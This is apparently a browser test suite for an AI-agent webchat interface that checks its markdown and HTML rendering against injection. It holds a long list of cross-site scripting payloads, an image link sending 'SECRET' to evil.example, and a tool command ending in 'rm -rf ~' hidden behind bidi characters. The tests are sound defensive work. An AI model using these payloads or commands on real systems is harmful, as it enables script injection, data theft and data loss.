import type { Page } from "playwright-core";
import { expect } from "vitest";
import { browser, browserTest, openChat, openPeer, peer, say } from "./webchat-browser.ts";

const run = "window.ran=(window.ran||0)+1";
const payloads = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run}//`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<body onload="${run}">`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="https://evil.example/">`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}">`,
  `<textarea autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<marquee onstart="${run}">x</marquee>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<style>@import "https://evil.example/x.css"; * { color: red !important }</style>`,
  `<div style="background:url(javascript:${run})">x</div>`,
  `<a href="javascript:${run}">x</a>`,
  `<template><img src=x onerror="${run}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
  `"><img src=x onerror="${run}">`,
  `'><svg/onload=${run}>`,
  `" autofocus onfocus="${run}" x="`,
  `--><img src=x onerror="${run}">`,
  `]]><img src=x onerror="${run}">`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `javascript:${run}`,
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java\tscript:${run})`,
  `[x](  javascript:${run})`,
  `[x](&#106;avascript:${run})`,
  `[x](%6aavascript:${run})`,
  `[x](\u0001javascript:${run})`,
  `[x](vbscript:${run})`,
  `[x](data:text/html,<script>${run}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](file:///etc/passwd)`,
  `[x](//evil.example/x)`,
  `[x](https://good.example@evil.example/)`,
  `[x](https://e.example/"onmouseover="${run})`,
  `[x](https://e.example/ "t\\" onmouseover=${run}")`,
  `![x](https://evil.example/?q=SECRET)`,
  `![x](javascript:${run})`,
  `![x" onerror="${run}](https://evil.example/x.png)`,
  `<https://e.example/><script>${run}</script>`,
  `[![x](https://evil.example/a.png)](javascript:${run})`,
  `[a\`](javascript:${run})\`](https://e.example)`,
  `**<img src=x onerror="${run}">**`,
  `\`\`\`html"onload="${run}\n</code></pre><script>${run}</script>\n\`\`\``,
  `\`<img src=x onerror="${run}">\``,
  `# <svg onload="${run}">`,
  `- <img src=x onerror="${run}">\n  1. <svg onload="${run}">`,
  `> <iframe src="javascript:${run}">`,
  `| <img src=x onerror="${run}"> | b |\n|---|---|\n| <svg onload="${run}"> | [x](javascript:${run}) |`,
  `https://e.example/<script>${run}</script>`,
  `https://e.example/"onclick="${run}`,
  `\u202e<img src=x onerror="${run}">\u202c`,
  `\u0000<script>${run}</script>`,
];

/** What a payload would have to make to do anything, anywhere on the page. */
async function traces(page: Page): Promise<unknown> {
  return page.evaluate(`({
    ran: window.ran ?? 0,
    elements: [...document.querySelectorAll("body script, body iframe, body object, body embed, body link, body meta, body base, body style, body video, body audio, body template, #log img, #log input, #log form, #log svg, #welcome img, option *")].map((node) => node.outerHTML),
    handlers: [...document.querySelectorAll("*")].flatMap((node) => [...node.attributes].filter(({ name }) => /^on|^style$|^srcdoc$/.test(name) && !(node.id === "input" && name === "style")).map(({ name }) => node.tagName + " " + name)),
    links: [...document.querySelectorAll("a")].filter((node) => !/^https?:$/.test(node.protocol) || node.rel !== "noopener noreferrer" || node.username).map((node) => node.outerHTML),
  })`);
}
const clean = { ran: 0, elements: [], handlers: [], links: [] };

browserTest("no payload in a history runs or becomes an element, even without a content policy", async () => {
  const messages = payloads.flatMap((payload, index) => [
    { role: "user", content: [{ type: "text", text: payload }], timestamp: 1 },
    {
      role: "assistant",
      content: [
        { type: "text", text: payload },
        {
          type: "toolCall",
          id: `c${index}`,
          name: payload,
          arguments: { [payload]: payload, command: payload },
        },
      ],
    },
    {
      role: "toolResult",
      toolCallId: `c${index}`,
      toolName: payload,
      content: [{ type: "text", text: payload }],
      isError: index % 2 === 0,
    },
    { role: "assistant", content: [], stopReason: "error", errorMessage: payload },
  ]);
  await openPeer(messages, { csp: false });
  peer.answers.set("models.default", () => ({
    provider: payloads[0],
    model: payloads[2],
    reason: payloads[4],
  }));
  peer.answers.set("sessions.list", () => ({
    sessions: payloads.map((payload, index) => ({
      key: index === 0 ? "agent:main:main" : `agent:main:${payload}`,
      label: payload,
      derivedTitle: payload,
    })),
  }));
  const elsewhere: string[] = [];
  const page = await browser.context.newPage();
  page.on("request", (request) => {
    if (!request.url().startsWith(peer.origin)) elsewhere.push(request.url());
  });
  page.on("dialog", (dialog) => {
    elsewhere.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.goto(`${peer.origin}/#token=right-token`);
  await page.locator("#model:not(:empty)").waitFor();
  expect(await page.locator(".turn").count()).toBe(2 * payloads.length);
  for (const summary of await page.locator(".tool summary").all())
    await summary.evaluate("(node) => node.click()");
  for (const anchor of await page.locator("#log a").all()) await anchor.dispatchEvent("mouseover");
  expect(await traces(page)).toEqual(clean);
  expect(elsewhere).toEqual([]);
  const bubbles = await page.locator(".user .bubble").allTextContents();
  expect(bubbles).toEqual(payloads);
});

browserTest("no payload that streams in, fails or refuses runs either", async () => {
  await openPeer([], { csp: false });
  const page = await openChat();
  for (const payload of payloads) {
    const stream = await say(page, payload.replaceAll("\n", " "));
    stream.delta(payload.slice(0, 12));
    stream.delta(payload);
    stream.tool({ phase: "start", name: payload, toolCallId: payload, args: payload });
    stream.tool({ phase: "update", name: payload, toolCallId: payload, partialResult: payload });
    stream.tool({ phase: "result", name: payload, toolCallId: payload, result: payload });
    stream.end("error", { errorMessage: payload, errorKind: payload, text: payload });
    await page.locator("#stop").waitFor({ state: "hidden" });
  }
  peer.answers.set("chat.send", () => ({ error: { code: payloads[2], message: payloads[4] } }));
  await page.locator("#input").fill("x");
  await page.keyboard.press("Enter");
  await page.locator(".user[data-failed]").waitFor();
  expect(await traces(page)).toEqual(clean);
});

browserTest("an image is a link that nobody follows, and it says where it leads", async () => {
  await openPeer([
    { role: "assistant", content: [{ type: "text", text: "![chart](https://evil.example/?q=SECRET)" }] },
  ]);
  const page = await openChat();
  const anchor = page.locator(".text a");
  expect(await anchor.textContent()).toBe("Image: chart");
  expect(await page.locator(".text p").textContent()).toBe("Image: chart (evil.example)");
  expect(await anchor.getAttribute("rel")).toBe("noopener noreferrer");
});

browserTest("a link whose words name another host shows the real one", async () => {
  const text =
    "[https://bank.example/login](https://evil.example) and [bank.example](https://evil.example) and [here](https://a.example)";
  await openPeer([{ role: "assistant", content: [{ type: "text", text }] }]);
  const page = await openChat();
  expect(await page.locator(".text p").textContent()).toBe(
    "https://bank.example/login (evil.example) and bank.example (evil.example) and here",
  );
});

browserTest(
  "what a tool is asked to do is shown raw, in full, with hidden characters spelled out",
  async () => {
    await openPeer();
    const page = await openChat();
    const command = `echo **safe** \`ls\` \u202e;fr- mr\u202c a\u200bb \u001b[8mhidden ${"x".repeat(3000)} && rm -rf ~`;
    const stream = await say(page, "go");
    stream.tool({ phase: "start", name: "exec\u2066", toolCallId: "1", args: { command } });
    await page.locator(".tool summary").click();
    const shown = await page.locator(".tool pre").first().textContent();
    expect(shown).toBe(
      command
        .replace("\u202e", "\\u{202e}")
        .replace("\u202c", "\\u{202c}")
        .replace("\u200b", "\\u{200b}")
        .replace("\u001b", "\\u{001b}"),
    );
    expect(await page.locator(".tool b").textContent()).toBe("exec\\u{2066}");
    expect(await page.evaluate("getComputedStyle(document.querySelector('.tool pre')).fontFamily")).toContain(
      "monospace",
    );
    expect(await page.locator(".tool pre strong, .tool pre code").count()).toBe(0);
  },
);

browserTest("markdown becomes what it says", async () => {
  const text = [
    "# Title",
    "A **bold** and *slanted* and ~~gone~~ `code` with snake_case_name and 2 * 3 * 4.",
    "1. one\n   - inner `x`\n2. two",
    '```sh\n\techo "<b>"\n```',
    "> quoted",
    "| a | b |\n|--|--:|\n| 1 | 2 |",
    "see https://e.example/a_(b)_c. End",
    "- [ ] open\n- [x] done",
    "x &lt;b&gt; &amp;amp; y<br>z<br/>`&lt;`",
  ].join("\n\n");
  await openPeer([{ role: "assistant", content: [{ type: "text", text }] }]);
  const page = await openChat();
  const html = await page.locator(".text").evaluate((node) => {
    for (const element of node.querySelectorAll("*")) {
      for (const name of element.getAttributeNames())
        if (name !== "href" && name !== "class") element.removeAttribute(name);
    }
    return node.innerHTML;
  });
  expect(html).toBe(
    [
      "<h2>Title</h2>",
      "<p>A <strong>bold</strong> and <em>slanted</em> and <del>gone</del> <code>code</code> with snake_case_name and 2 * 3 * 4.</p>",
      "<ol><li><span>one</span><ul><li><span>inner <code>x</code></span></li></ul></li><li><span>two</span></li></ol>",
      '<div class="code"><div class="code-bar"><span>sh</span><button class="copy">Copy</button></div><pre><code>\techo "&lt;b&gt;"</code></pre></div>',
      "<blockquote><p>quoted</p></blockquote>",
      '<div class="table"><table><thead><tr><th class="to-left">a</th><th class="to-right">b</th></tr></thead><tbody><tr><td class="to-left">1</td><td class="to-right">2</td></tr></tbody></table></div>',
      '<p>see <a href="https://e.example/a_(b)_c">https://e.example/a_(b)_c</a>. End</p>',
      '<ul><li class="task">☐ <span>open</span></li><li class="task">☑ <span>done</span></li></ul>',
      "<p>x &lt;b&gt; &amp;amp; y<br>z<br><code>&amp;lt;</code></p>",
    ].join(""),
  );
});

browserTest("a message made to keep the parser busy does not", async () => {
  const shapes = [
    "[",
    "![",
    "*a ",
    "**a ",
    "_a ",
    "`",
    "``a` ",
    "<",
    "> ",
    "- ",
    "#",
    "|",
    "(",
    "[a](",
    "http://",
    "~~a ",
    "\\",
    "1. ",
  ];
  await openPeer();
  const page = await openChat();
  for (const shape of shapes) {
    const text = JSON.stringify(shape.repeat(Math.ceil(50_000 / shape.length)));
    // Off the page, so that what is measured is the parser and not the browser's layout.
    const took = await page.evaluate(`import("/webchat/markdown.js").then(({ renderMarkdown }) => {
      const began = performance.now();
      renderMarkdown(document.createElement("div"), ${text});
      return performance.now() - began;
    })`);
    expect(took, `parsing ${JSON.stringify(shape)}`).toBeLessThan(5_000);
  }
});
